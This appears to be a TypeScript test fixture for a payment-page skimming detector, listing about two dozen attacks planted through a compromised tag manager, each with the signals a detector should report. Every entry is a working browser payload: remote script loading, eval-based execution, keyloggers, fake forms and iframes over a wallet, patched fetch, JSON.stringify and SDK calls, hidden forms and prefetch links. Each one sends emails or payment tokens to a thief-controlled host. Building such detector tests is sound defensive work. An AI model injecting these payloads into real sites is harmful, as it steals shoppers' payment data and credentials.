import { type Attack, FAKE_FORM, skimmer } from './guarded-shop.ts';
import type { Skimmer } from './skimmer.ts';

/** Lines of the tag manager, which the thief has got into and which attacks only whom he has chosen. */
const managed =
  (lines: (thief: string, shop: string) => string): Attack =>
  (site, { isChosen, thief, shop }) =>
    isChosen ? { manager: `${site.manager}; setTimeout(() => { ${lines(thief, shop)} }, 800)` } : {};

const send = (thief: string, value: string) =>
  `new Image().src = '${thief}/i?' + encodeURIComponent(${value})`;
const email = "document.querySelector('#email').value";
const cover = `const at = document.querySelector('#wallet').getBoundingClientRect();
  const box = document.createElement('div');
  box.style.cssText = 'position:absolute;background:#fff;left:' + at.x + 'px;top:' + (at.y + scrollY) + 'px;width:' + at.width + 'px;height:' + at.height + 'px';`;
const fakeFrame = (thief: string) =>
  `const frame = document.createElement('iframe'); frame.src = '${thief}/form'; frame.style.cssText = 'width:100%;height:300px;border:0';`;

/** Planted by a tag manager into which the thief has got, for some visitors alone: the service never sees them. */
export const TAG_MANAGER_SKIMMERS: Readonly<Record<string, Skimmer>> = {
  'injected-tag': {
    attack: managed(
      (thief) =>
        `const s = document.createElement('script'); s.src = '${thief}/skim.js'; document.head.append(s)`,
    ),
    seenBy: 'page',
    names: ['script', '/skim.js'],
  },
  'removed-tag': {
    attack: managed(
      (thief) =>
        `const s = document.createElement('script'); s.src = '${thief}/skim.js'; document.head.append(s); s.remove()`,
    ),
    seenBy: 'page',
    names: ['script', '/skim.js'],
  },
  'dynamic-import': {
    attack: managed((thief) => `import('${thief}/skim.mjs')`),
    seenBy: 'page',
    names: ['script', '/skim.mjs'],
  },
  'blob-script': {
    attack: managed(
      (thief) =>
        `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([${JSON.stringify(skimmer(thief))}])); document.head.append(s); s.remove()`,
    ),
    seenBy: 'page',
    names: ['script', 'blob:'],
  },
  'data-script': {
    attack: managed(
      (thief) =>
        `const s = document.createElement('script'); s.src = 'data:text/javascript,' + encodeURIComponent(${JSON.stringify(skimmer(thief))}); document.head.append(s)`,
    ),
    seenBy: 'page',
    names: ['script', 'data:'],
  },
  'evaluated-text': {
    attack: managed((thief) => `(0, eval)(${JSON.stringify(skimmer(thief))})`),
    seenBy: 'page',
    names: ['listener', '(eval)'],
  },
  'function-of-text': {
    attack: managed((thief) => `new Function(${JSON.stringify(skimmer(thief))})()`),
    seenBy: 'page',
    names: ['listener', '(eval)'],
  },
  'key-logger': {
    attack: managed((thief) => skimmer(thief)),
    seenBy: 'page',
    names: ['listener', /^keyup on #document by .*\/manager\/key-logger$/],
  },
  'key-handler': {
    attack: managed((thief) => `document.onkeyup = () => { ${send(thief, email)} }`),
    seenBy: 'page',
    names: ['listener', 'onkeyup'],
  },
  'polling-reader': {
    attack: managed((thief) => `setInterval(() => { if (${email}) ${send(thief, email)} }, 300)`),
    seenBy: 'page',
    names: ['connect', 'THIEF'],
  },
  'form-over-wallet': {
    attack: managed(
      (thief) => `${cover} box.innerHTML = ${JSON.stringify(FAKE_FORM(thief))}; document.body.append(box)`,
    ),
    seenBy: 'page',
    names: ['overlay', ''],
  },
  'field-beside-wallet': {
    attack: managed(
      (thief) =>
        `document.querySelector('#order').insertAdjacentHTML('beforeend', ${JSON.stringify(FAKE_FORM(thief))})`,
    ),
    seenBy: 'page',
    names: ['field', 'input'],
  },
  'frame-over-wallet': {
    attack: managed((thief) => `${cover} ${fakeFrame(thief)} box.append(frame); document.body.append(box)`),
    seenBy: 'page',
    names: ['overlay', 'iframe'],
  },
  'replaced-frame': {
    attack: managed(
      (thief) => `${fakeFrame(thief)} document.querySelector('#wallet').replaceChildren(frame)`,
    ),
    seenBy: 'page',
    names: ['frame', '/form'],
  },
  'frame-of-text': {
    attack: managed(
      (thief) =>
        `const frame = document.createElement('iframe'); frame.srcdoc = ${JSON.stringify(FAKE_FORM(thief))}; document.querySelector('#order').after(frame)`,
    ),
    seenBy: 'page',
    names: ['frame', ''],
  },
  'patched-fetch': {
    attack: managed(
      (thief) =>
        `const real = fetch; window.fetch = (...given) => { ${send(thief, 'String(given[1]?.body)')}; return real(...given) }`,
    ),
    seenBy: 'page',
    names: ['patch', 'window.fetch'],
    takesToken: true,
  },
  'patched-stringify': {
    attack: managed(
      (thief) =>
        `const real = JSON.stringify; JSON.stringify = (...given) => { const text = real(...given); if (/email/.test(text)) ${send(thief, 'text')}; return text }`,
    ),
    seenBy: 'page',
    names: ['patch', 'JSON.stringify'],
    takesToken: true,
  },
  'patched-message': {
    attack: managed(
      (thief) =>
        `const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
        Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { const data = get.call(this); const text = JSON.stringify(data) ?? ''; if (/cc_/.test(text)) ${send(thief, 'text')}; return data } })`,
    ),
    seenBy: 'page',
    names: ['patch', 'MessageEvent.data'],
    takesToken: true,
  },
  'replaced-sdk': {
    attack: managed(
      (thief) =>
        `const real = sdk.wallet.getPaymentMethod; sdk.wallet.getPaymentMethod = async () => { const method = await real(); ${send(thief, 'JSON.stringify(method)')}; return method }`,
    ),
    seenBy: 'page',
    names: ['connect', 'THIEF'],
    takesToken: true,
  },
  'service-worker': {
    attack: managed(() => `navigator.serviceWorker.register('/sw.js')`),
    seenBy: 'page',
    names: ['worker', ''],
  },
  'hidden-form': {
    attack: managed(
      (thief) => `document.querySelector('#pay').addEventListener('click', () => {
        document.body.insertAdjacentHTML('beforeend', '<iframe name="away" hidden></iframe><form id="away" hidden method="post" target="away" action="${thief}/i"><input name="v"></form>');
        const form = document.querySelector('#away'); form.elements.v.value = ${email}; form.submit() })`,
    ),
    seenBy: 'page',
    names: ['form', 'THIEF'],
  },
  'redirect-after-pay': {
    attack: managed(
      (thief) =>
        `document.querySelector('#pay').addEventListener('click', () => { location.href = '${thief}/pay?' + ${email} })`,
    ),
    seenBy: 'page',
    names: ['leave', 'THIEF'],
  },
  'prefetched-link': {
    attack: managed(
      (thief) =>
        `setInterval(() => { if (!${email}) return; const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${thief}/i?' + ${email}; document.head.append(link) }, 400)`,
    ),
    seenBy: 'page',
    names: ['connect', 'THIEF'],
  },
};
